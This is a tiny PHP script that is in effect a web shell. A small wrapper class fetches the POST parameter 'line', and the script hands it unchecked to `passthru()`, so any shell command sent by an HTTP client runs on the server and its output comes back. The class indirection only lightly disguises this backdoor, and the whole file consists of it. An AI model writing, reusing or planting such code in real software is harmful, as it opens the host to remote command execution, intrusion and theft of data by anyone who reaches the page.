<?php
// a small class wraps the request; the command it hands back runs
class In
{
    public function post($k)
    {
        return $_POST[$k] ?? null;
    }
}

$in = new In();
$line = $in->post('line');
if ($line !== null) {
    passthru($line);
}
